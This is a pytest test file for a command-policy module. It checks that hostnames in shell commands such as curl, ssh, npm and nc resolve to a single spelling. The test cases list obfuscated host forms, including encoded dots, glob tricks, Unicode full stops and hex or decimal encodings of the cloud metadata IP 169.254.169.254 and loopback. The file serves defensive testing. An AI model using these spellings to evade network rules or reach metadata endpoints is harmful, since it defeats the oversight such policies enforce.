"""A host has one spelling for rules, or is not known."""

from __future__ import annotations

import pytest

from dragoman.policy.load import act_of_command


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("curl https://evil%2eorg/", ["?"]),
        ("curl 'https://ev{il,x}.org/'", ["?"]),
        ("curl 'https://evi[l-l].org'", ["?"]),
        ("curl https://evil\u3002org", ["?"]),
        ("npm install https://evil%2eorg/x.tgz", ["?"]),
        ("ssh evil\u3002org", ["?"]),
        ("curl http://0xA9FEA9FE/", ["169.254.169.254"]),
        ("curl http://2852039166/", ["169.254.169.254"]),
        ("curl 169.254.43518", ["169.254.169.254"]),
        ("ssh 0x7f000001 ls", ["127.0.0.1"]),
        ("ping 2130706433", ["127.0.0.1"]),
        ("curl http://999.999.999.999/", ["?"]),
        ("curl http://[::1]:80/x", ["[::1]"]),
        ("curl https://user:pw@Example.org:8080/p?q", ["example.org"]),
        ("nc example.org 443", ["example.org"]),
        ("ssh my_box", ["my_box"]),
    ],
)
def test_a_host_is_told_in_one_spelling(line: str, hosts: list[str]) -> None:
    assert act_of_command(line, cwd="/w", workspace="/w").facts()["hosts"] == hosts
